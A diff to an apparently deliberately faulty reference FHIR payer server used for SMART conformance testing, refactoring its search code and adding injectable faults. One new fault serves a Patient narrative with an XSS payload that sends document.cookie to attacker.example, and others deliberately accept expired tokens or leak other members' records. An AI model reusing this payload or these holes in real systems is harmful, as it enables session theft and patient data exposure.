@@ -12,7 +12,8 @@ Access policy (documented for target authors):
 - A search naming another member's patient: an empty searchset Bundle (the same as an unknown patient).
 - Organization and Practitioner are shared reference data, readable whenever scopes allow.
 - Writes: 403 unless a write scope was granted; the server never grants one (read-only), see ``scopes.py``.
-- Unknown search parameters, bad ``_count``/``_offset`` and unknown ``_include`` values: 400 OperationOutcome.
+- Search parameters (unknown ones, empty values, ``Prefer: handling``, self links) and ``_format``: see
+  ``fhir_search.py``. Interactions the CapabilityStatement does not list (history, vread) answer 404.
 - Chained parameters ``patient.identifier``/``patient.name`` (``beneficiary.`` on Coverage) are supported, inside the
   compartment like any other parameter.
 - Batch/transaction (POST to the base) is not offered: under read-only scopes it is refused (403) as a write.
@@ -21,17 +22,14 @@ Access policy (documented for target authors):
 from __future__ import annotations
 
 import json
-import time
-import traceback
 import uuid
 from dataclasses import dataclass
 from datetime import UTC, datetime
 from typing import Any
-from urllib.parse import urlencode
 
 import jwt
 from starlette.requests import Request
-from starlette.responses import HTMLResponse, PlainTextResponse, Response
+from starlette.responses import HTMLResponse, Response
 
 from smart_conformance.reference import scopes as scope_rules
 from smart_conformance.reference.auth import opaque_access_claims
@@ -42,7 +40,6 @@ from smart_conformance.reference.variants import REFUSALS_AS_403, REFUSALS_AS_40
 
 FHIR_JSON = "application/fhir+json"
 REALM = "reference-payer-fhir"
-JSON_FORMATS = ("json", "application/json", "application/fhir+json", "application/json+fhir")
 
 # (source type, search parameter) -> (element holding the reference(s), target type)
 INCLUDES: dict[tuple[str, str], tuple[str, str]] = {
@@ -56,17 +53,6 @@ INCLUDES: dict[tuple[str, str], tuple[str, str]] = {
     ("Coverage", "payor"): ("payor", "Organization"),
     ("RelatedPerson", "patient"): ("patient", "Patient"),
 }
-# Search parameters per type (beyond the common ones) and the element a reference parameter matches.
-SEARCH_PARAMS: dict[str, dict[str, str | None]] = {
-    "Patient": {"_id": None},
-    "Coverage": {"_id": None, "patient": "beneficiary", "beneficiary": "beneficiary"},
-    "ExplanationOfBenefit": {"_id": None, "patient": "patient"},
-    "Organization": {"_id": None},
-    "Practitioner": {"_id": None},
-    "RelatedPerson": {"_id": None, "patient": "patient"},
-}
-COMMON_PARAMS = {"_count", "_offset", "_include", "_revinclude", "_format", "_pretty", "_total"}
-DEFAULT_COUNT, MAX_COUNT = 20, 100
 
 
 # --- responses -----------------------------------------------------------------------------------------------
@@ -81,14 +67,24 @@ def fhir_json(ctx: Context, body: dict[str, Any], status: int = 200,
 
 
 def _as_served(ctx: Context, body: dict[str, Any]) -> dict[str, Any]:
-    """The data faults: claims served with a dangling insurer, or with dates that are not FHIR dateTimes."""
+    """The data faults: claims served with a dangling insurer, or with dates that are not FHIR dateTimes; a Patient
+    narrative with live script; Coverage without a CARIN must-support element."""
     unresolvable = ctx.faults.active(Fault.EOB_INSURER_UNRESOLVABLE)
     bad_dates = ctx.faults.active(Fault.INVALID_FHIR_DATES)
-    if not (unresolvable or bad_dates):
+    script = ctx.faults.active(Fault.NARRATIVE_SCRIPT)
+    no_relationship = ctx.faults.active(Fault.MUST_SUPPORT_DROPPED)
+    if not (unresolvable or bad_dates or script or no_relationship):
         return body
 
     def degrade(resource: Any) -> Any:
-        if not isinstance(resource, dict) or resource.get("resourceType") != "ExplanationOfBenefit":
+        kind = resource.get("resourceType") if isinstance(resource, dict) else None
+        if kind == "Patient" and script:
+            div = ('<div xmlns="http://www.w3.org/1999/xhtml"><p onclick="steal()">Member</p>'
+                   '<script>fetch("https://attacker.example/?c="+document.cookie)</script></div>')
+            return {**resource, "text": {"status": "generated", "div": div}}
+        if kind == "Coverage" and no_relationship:
+            return {k: v for k, v in resource.items() if k != "relationship"}
+        if kind != "ExplanationOfBenefit":
             return resource
         changed = dict(resource)
         if unresolvable:
@@ -171,7 +167,7 @@ def authenticate(ctx: Context, request: Request) -> Principal:
 def _verify(ctx: Context, token: str) -> Principal:
     opaque = opaque_access_claims(ctx, token)
     if opaque is not None:
-        if opaque["exp"] < time.time() and not ctx.faults.active(Fault.EXPIRED_TOKEN_ACCEPTED):
+        if opaque["exp"] < ctx.now() and not ctx.faults.active(Fault.EXPIRED_TOKEN_ACCEPTED):
             raise Refused(unauthorized(ctx, "the access token has expired"))
         return _principal(ctx, opaque)
     try:
@@ -190,6 +186,7 @@ def _verify(ctx: Context, token: str) -> Principal:
             if key is None:
                 raise Refused(unauthorized(ctx, "the access token was not signed by this server"))
             claims = jwt.decode(token, key, algorithms=["RS256"], audience=ctx.fhir_base, issuer=ctx.issuer,
+                                leeway=ctx.clock_skew(),
                                 options={"verify_exp": verify_exp, "require": ["exp", "jti", "scope"]})
     except jwt.ExpiredSignatureError:
         raise Refused(unauthorized(ctx, "the access token has expired")) from None
@@ -295,7 +292,11 @@ async def _dispatch(ctx: Context, request: Request) -> Response:
             return HTMLResponse(f"<html><body><h1>Not found</h1><p>Unknown resource type {rtype}</p></body></html>",
                                 status_code=404)
         return outcome(ctx, 404, "not-supported", f"resource type {rtype!r} is not supported")
-    _check_format(ctx, request)
+    from smart_conformance.reference import (
+        fhir_search,  # search and _format live there (it imports this module)
+    )
+
+    fhir_search.check_format(ctx, request)
     if method in ("POST", "PUT", "DELETE", "PATCH") and not (method == "POST" and parts[1:] == ["_search"]):
         return await _write(ctx, request, who, rtype, parts, method)
     if method not in ("GET", "HEAD", "POST"):
@@ -305,18 +306,14 @@ async def _dispatch(ctx: Context, request: Request) -> Response:
         if method == "POST":
             form = await request.form()
             params = form  # type: ignore[assignment]
-        return _search(ctx, request, who, rtype, params)
+        return fhir_search.search(ctx, request, who, rtype, params)
     if len(parts) == 2:
         return _read(ctx, who, rtype, parts[1])
+    if len(parts) == 3 and parts[2] == "_history" and ctx.faults.active(Fault.UNADVERTISED_INTERACTION_SERVED):
+        return fhir_search.history(ctx, who, rtype, parts[1])  # the defect: served, though not advertised
     if len(parts) == 3 and rtype == "Patient" and parts[2] == "$everything":
         return _everything(ctx, who, parts[1])
     return outcome(ctx, 404, "not-supported", "this interaction is not supported")
-
-
-def _check_format(ctx: Context, request: Request) -> None:
-    fmt = request.query_params.get("_format")
-    if fmt is not None and fmt.split(";")[0].strip() not in JSON_FORMATS:
-        raise Refused(outcome(ctx, 406, "not-supported", "only JSON is supported (_format=json)"))
 
 
 async def _write(ctx: Context, request: Request, who: Principal, rtype: str, parts: list[str],
@@ -406,162 +403,8 @@ def _ref_id(value: str, rtype: str) -> str:
     return value.rsplit(marker, 1)[1] if marker in value else value
 
 
-def _int_param(ctx: Context, params: Any, name: str, default: int) -> int:
-    raw = params.get(name)
-    if raw is None:
-        return default
-    if name == "_count" and ctx.faults.active(Fault.ERROR_STACK_TRACE):
-        try:
-            return int(raw)
-        except Exception:  # the defect: an unhandled error rendered with its traceback
-            raise Refused(PlainTextResponse(traceback.format_exc(), status_code=500)) from None
-    if not (raw.isascii() and raw.isdigit() and len(raw) <= 9):
-        raise Refused(outcome(ctx, 400, "invalid", f"{name} must be a non-negative integer"))
-    return int(raw)
-
-
-def _search(ctx: Context, request: Request, who: Principal, rtype: str, params: Any) -> Response:
-    _require_scope(ctx, who, rtype, "s")
-    allowed = SEARCH_PARAMS[rtype]
-    chains = {name: chain for name in params.keys() if name not in allowed and (chain := _chain(name, allowed))}
-    for name in params.keys():
-        base = name.split(":", 1)[0]
-        if name not in allowed and name not in COMMON_PARAMS and base != "access_token" and name not in chains:
-            raise Refused(outcome(ctx, 400, "not-supported", f"unknown search parameter {name!r} for {rtype}"))
-    for name in params.keys():
-        if name in allowed and len(params.getlist(name)) > 1:
-            raise Refused(outcome(ctx, 400, "not-supported", f"{name} may appear only once"))
-    count = min(_int_param(ctx, params, "_count", DEFAULT_COUNT), MAX_COUNT)
-    offset = _int_param(ctx, params, "_offset", 0)
-    includes = _parse_includes(ctx, params.getlist("_include"), rtype, reverse=False)
-    revincludes = _parse_includes(ctx, params.getlist("_revinclude"), rtype, reverse=True)
-
-    leak = ctx.faults.active(Fault.COMPARTMENT_LEAK_SEARCH)
-    chain_leak = bool(chains) and ctx.faults.active(Fault.COMPARTMENT_LEAK_CHAINED)
-    # Either fault: every resource of the type matches (the paging one only past the first page).
-    unfiltered = ctx.faults.active(Fault.SEARCH_UNFILTERED) or (
-        offset > 0 and ctx.faults.active(Fault.PAGING_LEAKS_OTHER_MEMBERS))
-    matches = []
-    for resource in ctx.data.all(rtype):
-        if unfiltered:
-            matches.append(resource)
-            continue
-        if not (_in_compartment(ctx, who, resource) or (leak and _names_patient(params, allowed)) or chain_leak):
-            continue
-        if "_id" in params and resource["id"] not in params["_id"].split(","):
-            continue
-        if not all(_matches_ref(resource, allowed[n], params[n]) for n in params.keys()
-                   if allowed.get(n)):
-            continue
-        if not all(_matches_chain(ctx, resource, path, leaf, params[n]) for n, (path, leaf) in chains.items()):
-            continue
-        matches.append(resource)
-    page = matches[offset:offset + count]
-    extra = _included(ctx, who, page, includes, revincludes)
-    bundle = _bundle(ctx, rtype, params, matches, page, extra, offset, count)
-    return fhir_json(ctx, bundle)
-
-
-def _chain(name: str, allowed: dict[str, str | None]) -> tuple[str, str] | None:
-    """``patient.identifier`` → (element, 'identifier') when ``patient`` is a reference parameter of the type."""
-    ref, _, leaf = name.partition(".")
-    path = allowed.get(ref)
-    return (path, leaf) if path and leaf in ("identifier", "name") else None
-
-
-def _matches_chain(ctx: Context, resource: Resource, path: str, leaf: str, value: str) -> bool:
-    """The referenced Patient matches ``identifier`` (system|value or value) or ``name`` (starts-with, any part)."""
-    wanted = value.lower()
-    for ref in _refs(resource, path):
-        patient = ctx.data.get("Patient", _ref_id(ref, "Patient")) if ref.startswith("Patient/") else None
-        if patient is None:
-            continue
-        for ident in (patient.get("identifier") or []) if leaf == "identifier" else []:
-            full = f"{ident.get('system', '')}|{ident.get('value', '')}".lower()
-            if wanted in (full, str(ident.get("value", "")).lower()):
-                return True
-        for name in (patient.get("name") or []) if leaf == "name" else []:
-            parts = [name.get("family", ""), *name.get("given", []), name.get("text", "")]
-            if any(str(p).lower().startswith(wanted) for p in parts if p):
-                return True
-    return False
-
-
-def _names_patient(params: Any, allowed: dict[str, str | None]) -> bool:
-    return any(params.get(n) for n in ("patient", "beneficiary") if n in allowed)
-
-
-def _matches_ref(resource: Resource, path: str | None, value: str) -> bool:
-    wanted = {f"Patient/{_ref_id(v, 'Patient')}" for v in value.split(",")}
-    return bool(path) and any(ref in wanted for ref in _refs(resource, path or ""))
-
-
-def _parse_includes(ctx: Context, values: list[str], rtype: str, *, reverse: bool) -> list[tuple[str, str]]:
-    out = []
-    for value in values:
-        src, _, param = value.partition(":")
-        param = param.split(":", 1)[0]
-        spec = INCLUDES.get((src, param))
-        ok = spec is not None and ((spec[1] == rtype) if reverse else (src == rtype))
-        if not ok:
-            kind = "_revinclude" if reverse else "_include"
-            raise Refused(outcome(ctx, 400, "not-supported", f"unsupported {kind} {value!r} for {rtype}"))
-        out.append((src, param))
-    return out
-
-
-def _included(ctx: Context, who: Principal, page: list[Resource], includes: list[tuple[str, str]],
-              revincludes: list[tuple[str, str]]) -> list[Resource]:
-    """Resources pulled in by _include/_revinclude, filtered by scope and by the patient compartment."""
-    seen = {(r["resourceType"], r["id"]) for r in page}
-    found: list[Resource] = []
-    for src, param in includes:
-        path, target = INCLUDES[(src, param)]
-        for resource in page:
-            for ref in _refs(resource, path):
-                kind, _, rid = ref.partition("/")
-                hit = ctx.data.get(kind, rid) if kind == target else None
-                if hit is not None:
-                    found.append(hit)
-    page_refs = {f"{r['resourceType']}/{r['id']}" for r in page}
-    for src, param in revincludes:
-        path, _target = INCLUDES[(src, param)]
-        for candidate in ctx.data.all(src):
-            if any(ref in page_refs for ref in _refs(candidate, path)):
-                found.append(candidate)
-    out = []
-    leak = ctx.faults.active(Fault.COMPARTMENT_LEAK_INCLUDE)
-    for resource in found:
-        key = (resource["resourceType"], resource["id"])
-        if key in seen or not who.can(resource["resourceType"], "r"):
-            continue
-        if not leak and not _in_compartment(ctx, who, resource):
-            continue
-        seen.add(key)
-        out.append(resource)
-    return out
-
-
 def _now() -> str:
     return datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
-
-
-def _bundle(ctx: Context, rtype: str, params: Any, matches: list[Resource], page: list[Resource],
-            extra: list[Resource], offset: int, count: int) -> dict[str, Any]:
-    kept = [(k, v) for k, v in params.multi_items() if k not in ("_offset", "_count", "access_token")]
-
-    def link(relation: str, at: int) -> dict[str, str]:
-        query = urlencode([*kept, ("_count", str(count)), ("_offset", str(at))])
-        return {"relation": relation, "url": f"{ctx.fhir_base}/{rtype}?{query}"}
-
-    links = [link("self", offset)]
-    if offset + count < len(matches) and count > 0:
-        links.append(link("next", offset + count))
-    if offset > 0:
-        links.append(link("previous", max(0, offset - count)))
-    entries = [_entry(ctx, r, "match") for r in page] + [_entry(ctx, r, "include") for r in extra]
-    return {"resourceType": "Bundle", "id": str(uuid.uuid4()), "meta": {"lastUpdated": _now()},
-            "type": "searchset", "total": len(matches), "link": links, "entry": entries}
 
 
 def _entry(ctx: Context, resource: Resource, mode: str) -> dict[str, Any]:
